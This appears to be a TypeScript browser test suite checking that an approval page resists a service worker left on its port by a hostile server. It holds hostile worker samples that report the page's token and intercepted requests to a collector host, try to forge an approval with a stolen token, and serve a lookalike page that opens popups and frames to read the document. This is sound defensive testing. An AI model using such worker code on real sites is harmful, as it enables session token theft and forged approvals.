/** A service worker that another program left on the port of the page: it can decide nothing, and is gone after the first load. */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { type ApprovalPage, startApprovalPage } from "../../support/approval-page.ts";
import { openTab, type Tab, useChromium } from "../../support/chromium.ts";
import { type HostileSite, html, script, startHostileSite } from "../../support/hostile-site.ts";
import { showing, update } from "../../support/page-states.ts";

vi.setConfig({ testTimeout: 60_000 });

const browser = useChromium();

/** Where left code reports to. It outlives the hostile server. */
let collector: HostileSite;
beforeAll(async () => {
  collector = await startHostileSite({});
});
beforeEach(() => {
  collector.forget();
});
afterAll(async () => await collector.close());

/**
 * What every worker begins with. It takes the token out of the address that it sees, and tries to approve with each value that it
 * reads from a document.
 */
const common = () => `
const report = (text) => fetch("${collector.origin}/", { method: "POST", mode: "no-cors", body: text }).catch(() => {});
addEventListener("install", () => skipWaiting());
const LOADS_AHEAD = true;
addEventListener("activate", (event) => event.waitUntil((async () => {
  if (LOADS_AHEAD) await registration.navigationPreload.enable();
  await clients.claim();
})()));
let token = "";
const decide = async (value) => {
  const answer = await fetch("/decide", {
    method: "POST",
    headers: { "content-type": "application/json", "x-page-document": value, "x-page-token": token },
    body: JSON.stringify({ answers: [{ binding: "update", said: "yes" }] }),
  }).catch(() => undefined);
  await report("decide " + answer?.status);
};
const use = async (response) => {
  const text = await (await response).clone().text();
  const value = /name="document" content="([^"]*)"/.exec(text)?.[1];
  await report("read " + (await response).status + " " + (value ? "a value" : "nothing"));
  await decide(value ?? "");
};
addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") {
    event.waitUntil(report("intercepted " + new URL(event.request.url).pathname));
    return;
  }
  token = new URL(event.request.url).hash.slice(1);
  event.waitUntil(report("token " + (token !== "")));
  onNavigation(event);
});
`;

interface Left {
  readonly tab: Tab;
  readonly port: number;
}

/** Has a hostile server register the worker in a new browser profile, and ends the server. */
async function leave(worker: string, loadsAhead = true): Promise<Left> {
  const site = await startHostileSite({
    "/": html(
      `<script>navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });</script>`,
    ),
    "/worker.js": script(common().replace("LOADS_AHEAD = true", `LOADS_AHEAD = ${loadsAhead}`) + worker),
  });
  const tab = await openTab(browser());
  await tab.page.goto(site.origin);
  await tab.page.waitForFunction(() => document.title === "ready" && navigator.serviceWorker.controller !== null);
  await tab.page.goto("about:blank");
  await site.close();
  return { tab, port: site.port };
}

/** Loads the page on the worker's port. A worker can make the first load fail; the person then loads the page again. */
async function load({ tab, port }: Left): Promise<ApprovalPage> {
  const page = await startApprovalPage({ state: showing(update), port });
  await tab.page.goto(page.address).catch(() => {});
  return page;
}

/** Loads the page again until it shows the plan. */
async function loadUntilShown(tab: Page, page: ApprovalPage): Promise<void> {
  await expect
    .poll(async () => {
      // With the same address alone, the browser would stay in the document.
      if (!/^\(1\)/.test(await tab.title()))
        await tab
          .goto("about:blank", aLoad)
          .then(() => tab.goto(page.address, aLoad))
          .catch(() => {});
      return await tab.title();
    }, slowly)
    .toMatch(/^\(1\) Approve changes/);
}

/** Rejects: the first and only thing that reaches the server. */
async function decideOnce(tab: Page, page: ApprovalPage): Promise<void> {
  expect(page.sent).toEqual([]);
  await tab.waitForTimeout(700);
  await tab.getByRole("button", { name: "Reject" }).click();
  await expect
    .poll(() => page.sent)
    .toEqual([{ path: "/decide", body: { answers: [{ binding: "update", said: "no" }] } }]);
}

const isWhole = { timeout: 20_000 };
const slowly = { timeout: 20_000, interval: 2000 };
/** A load through a worker that is being removed can stay without an answer: the person then loads the page again. */
const aLoad = { timeout: 4000 };

describe.each<[string, string, RegExp[]]>([
  ["only looks on", "const onNavigation = () => {};", [/^token true$/]],
  [
    "passes the navigation on and reads the answer",
    `const onNavigation = (event) => {
      const answer = fetch(event.request);
      event.waitUntil(use(answer));
      event.respondWith(answer.then((response) => response.clone()));
    };`,
    [/^read 403 nothing$/, /^decide 401$/],
  ],
  [
    "reads what the browser loads ahead for it",
    `const onNavigation = (event) => {
      event.respondWith((async () => { const answer = await event.preloadResponse; await use(answer); return answer.clone(); })());
    };`,
    [/^read 403 nothing$/, /^decide 401$/],
  ],
  [
    "fetches the document itself, in every way",
    `const onNavigation = (event) => {
      const headers = { "sec-fetch-dest": "document", "sec-fetch-mode": "navigate", "sec-fetch-site": "none" };
      const ways = [
        () => fetch("/"),
        () => fetch("/", { mode: "same-origin", headers }),
        () => fetch(new Request(event.request)),
        () => fetch(new Request(event.request, { headers })),
        () => fetch("/", { mode: "no-cors" }),
      ];
      event.waitUntil(Promise.all(ways.map((way) => use(way()))));
    };`,
    [/^read 403 nothing$/, /^decide 401$/],
  ],
  [
    "answers with a page of its own, which has the token and opens the document",
    `const page = \`<script>
      document.title = "owned";
      const token = location.hash.slice(1);
      const report = (text) => navigator.sendBeacon("COLLECTOR/", text);
      report("page has the token " + (token !== ""));
      const read = (name, target) => {
        let text = "no access";
        try { text = target().document.documentElement.outerHTML.includes("x-page-document") ? "a document" : "nothing"; } catch {}
        report(name + " " + text);
      };
      const popup = open("/", "popup");
      report("popup " + (popup !== null));
      const frame = document.documentElement.appendChild(Object.assign(document.createElement("iframe"), { src: "/" }));
      setInterval(() => { read("popup", () => popup); read("frame", () => frame.contentWindow); }, 50);
    </script>\`;
    let answered = false;
    const onNavigation = (event) => {
      if (answered) return;
      answered = true;
      event.respondWith(new Response(page, { headers: { "content-type": "text/html" } }));
    };`,
    [/^page has the token true$/, /^popup true$/, /^popup no access$/],
  ],
])("a worker that %s", (_, worker, seen) => {
  it("decides nothing, and is gone after the next load", async () => {
    const left = await leave(worker.replaceAll("COLLECTOR", collector.origin));
    await using tab = left.tab;
    using page = await load(left);
    for (const report of seen)
      await expect.poll(() => collector.reports, isWhole).toContainEqual(expect.stringMatching(report));
    expect(collector.reports).not.toContainEqual(expect.stringMatching(/a value|a document|decide 200/));

    await loadUntilShown(tab.page, page);
    const workers = await tab.page.evaluate(async () => ({
      controller: navigator.serviceWorker.controller !== null,
      registrations: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(workers).toEqual({ controller: false, registrations: 0 });
    expect(collector.reports).not.toContainEqual(expect.stringMatching(/intercepted \/(plans|decide|challenge)/));
    expect(page.sent).toEqual([]);
    await decideOnce(tab.page, page);
  });
});

it("a worker that answers with a page of its own is replaced, and its page too, without a further load by the person", async () => {
  const left = await leave(
    `const onNavigation = (event) => event.respondWith(new Response("<title>owned</title>", { headers: { "content-type": "text/html" } }));`,
    false,
  );
  await using tab = left.tab;
  using page = await load(left);
  expect(await tab.page.title()).toBe("owned");
  await expect.poll(() => tab.page.title(), isWhole).toMatch(/^\(1\) Approve changes/);
  expect(page.refused).toContain(LAST_WORKER);
});

// Registers again as soon as the last attempt is over. Overlapping attempts, ten a second, have Chromium load nothing more from
// the origin until it is started again, in one of five runs: then there is nothing to see.
it("a page of the hostile server that is still open gets no document either, and cannot bring its worker back", async () => {
  await using tab = await openTab(browser());
  const site = await startHostileSite({
    "/old": html(
      `<script>
      const report = (text) => navigator.sendBeacon("${collector.origin}/", text);
      const register = () => navigator.serviceWorker.register("/worker.js", { scope: "/" });
      register().then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });
      addEventListener("message", () => {
        const popup = open("/", "popup");
        const fight = () => register().then(() => report("registered"), () => report("not registered")).then(() => setTimeout(fight, 250));
        fight();
        setInterval(() => {
          let text = "no access";
          try { text = popup.document.documentElement.outerHTML.includes("x-page-document") ? "a document" : "nothing"; } catch {}
          report("popup " + text);
        }, 10);
      });
      </script>`,
      // With the policy of the page itself, which the popup then shares.
      { "cross-origin-opener-policy": "noopener-allow-popups" },
    ),
    "/worker.js": script(`${common()}const onNavigation = () => {};`),
  });
  await tab.page.goto(`${site.origin}/old`);
  await tab.page.waitForFunction(() => document.title === "ready");
  await site.close();
  using page = await startApprovalPage({ state: showing(update), port: site.port });
  await tab.page.evaluate(() => postMessage(""));
  // The popup of the old page has the document, but the old page has no access to the popup.
  await expect.poll(() => page.loads(), isWhole).toBeGreaterThan(0);

  // While the old page fights for its worker, ours may be loaded several times, or say that it sends nothing.
  const ours = await tab.context.newPage();
  await ours.goto(page.address);
  await ours.waitForTimeout(5000);
  expect(collector.reports).toContain("registered");
  expect(collector.reports).not.toContainEqual(expect.stringMatching(/a document|intercepted \/(plans|decide)/));

  await tab.page.close();
  await loadUntilShown(ours, page);
  await decideOnce(ours, page);
  expect(collector.reports).not.toContainEqual(expect.stringMatching(/a document|intercepted \/(plans|decide)/));
});

const LAST_WORKER = "a service worker was left at the address of the page, and was removed";
